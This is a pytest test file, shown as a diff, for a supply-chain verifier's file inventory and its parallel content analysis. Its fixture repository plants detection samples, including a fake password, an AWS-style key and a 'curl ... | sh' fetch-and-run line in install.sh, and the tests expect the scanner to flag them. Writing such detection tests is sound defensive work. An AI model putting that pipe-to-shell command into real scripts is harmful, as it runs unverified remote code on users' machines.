@@ -0,0 +1,123 @@
+#!/usr/bin/env python3
+"""
+Tests for the single-walk file inventory and shared content analysis
+of supply-chain-complete-verifier.py
+"""
+
+import multiprocessing
+import os
+from concurrent.futures import ProcessPoolExecutor
+
+import pytest
+
+
+def write(root, rel_path, content="x = 1\n"):
+    path = root / rel_path
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(content)
+    return path
+
+
+def reference_inventory(root, skip_rel):
+    """Naive os.walk listing with the same pruning rules"""
+    found = set()
+    for directory, dirs, files in os.walk(root):
+        rel_dir = os.path.relpath(directory, root)
+        dirs[:] = [
+            d for d in dirs
+            if d not in ("node_modules", "__pycache__", ".git")
+            and os.path.normpath(os.path.join(rel_dir, d)) != skip_rel
+        ]
+        for name in files:
+            path = os.path.join(directory, name)
+            if os.path.isfile(path):
+                found.add(os.path.relpath(path, root))
+    return found
+
+
+class TestInventory:
+    """Test suite for the repository walk"""
+
+    def test_prunes_skipped_and_evidence_dirs(self, scv, tmp_path):
+        for rel_path in ("a.py", "sub/b.yaml", "sub/deep/c.json", "outputs/keep.json",
+                         ".git/config", "node_modules/pkg/index.js",
+                         "sub/__pycache__/b.cpython-311.pyc",
+                         "outputs/supply-chain-evidence/old-report.json"):
+            write(tmp_path, rel_path)
+
+        verifier = scv.UltimateSupplyChainVerifier(str(tmp_path), use_cache=False)
+        inventory = verifier._get_inventory()
+
+        # Depth-first in name order, relative to the repository root
+        assert [e.path for e in inventory] == [
+            "a.py", "outputs/keep.json", "sub/b.yaml", "sub/deep/c.json"
+        ]
+        assert {e.path for e in inventory} == reference_inventory(
+            tmp_path, os.path.join("outputs", "supply-chain-evidence")
+        )
+        for entry in inventory:
+            stat = (tmp_path / entry.path).stat()
+            assert (entry.size, entry.mtime_ns) == (stat.st_size, stat.st_mtime_ns)
+
+        assert verifier._get_inventory() is inventory
+        assert [e.path for e in verifier._find_files("*.json", "*.yaml")] == [
+            "outputs/keep.json", "sub/b.yaml", "sub/deep/c.json"
+        ]
+
+    @pytest.mark.skipif(not hasattr(os, "symlink"), reason="symlinks unsupported")
+    def test_symlinks(self, scv, tmp_path):
+        target = write(tmp_path, "real/target.py")
+        os.symlink(target, tmp_path / "linked.py")
+        os.symlink(tmp_path / "real", tmp_path / "linked-dir")
+        os.symlink(tmp_path, tmp_path / "real" / "loop")
+        os.symlink(tmp_path / "missing.py", tmp_path / "dangling.py")
+
+        verifier = scv.UltimateSupplyChainVerifier(str(tmp_path), use_cache=False)
+        paths = [e.path for e in verifier._get_inventory()]
+
+        # File links are listed, directory links are not followed and
+        # dangling links are skipped
+        assert paths == ["linked.py", "real/target.py"]
+
+
+@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork start method")
+class TestContentAnalysis:
+    """Test suite for the serial and process pool analysis paths"""
+
+    def make_repo(self, root):
+        for i in range(40):
+            write(root, f"pkg/mod_{i:02d}.py", f"value = {i}\n")
+        write(root, "pkg/settings.py", 'password = "hunter2hunter2"\n')
+        write(root, "deploy/app.yaml", "apiVersion: v1\nkind: Service\nmetadata:\n  name: web\n")
+        write(root, "deploy/bad.json", "{not json")
+        write(root, "scripts/install.sh", "curl http://example.invalid/x | sh\n")
+        (root / "pkg" / "blob.py").write_bytes(b"\x00\x01AKIAABCDEFGHIJKLMNOP\n")
+
+    def test_process_pool_matches_serial(self, scv, tmp_path, monkeypatch):
+        self.make_repo(tmp_path)
+
+        serial = scv.UltimateSupplyChainVerifier(str(tmp_path), max_workers=1, use_cache=False)
+        expected = serial._get_findings()
+
+        pools = []
+
+        def fork_pool(**kwargs):
+            pools.append(kwargs)
+            return ProcessPoolExecutor(mp_context=multiprocessing.get_context("fork"), **kwargs)
+
+        monkeypatch.setattr(scv, "PARALLEL_MIN_FILES", 1)
+        monkeypatch.setattr(scv, "ProcessPoolExecutor", fork_pool)
+        parallel = scv.UltimateSupplyChainVerifier(str(tmp_path), max_workers=2, use_cache=False)
+        findings = parallel._get_findings()
+
+        assert pools == [{"max_workers": 2}]
+        assert list(findings) == list(expected)
+        assert findings == expected
+        assert parallel.cache_stats["analyzed"] == len(findings) == 45
+
+        assert findings["pkg/settings.py"]["secrets"][0]["type"] == "password"
+        assert findings["scripts/install.sh"]["malware"][0]["type"] == "suspicious_network"
+        assert findings["deploy/bad.json"]["lint"]["status"] == "invalid"
+        assert findings["deploy/app.yaml"]["k8s_resources"]
+        assert findings["pkg/blob.py"]["lint"]["error"] == "binary content"
+        assert findings["pkg/blob.py"]["secrets"] == []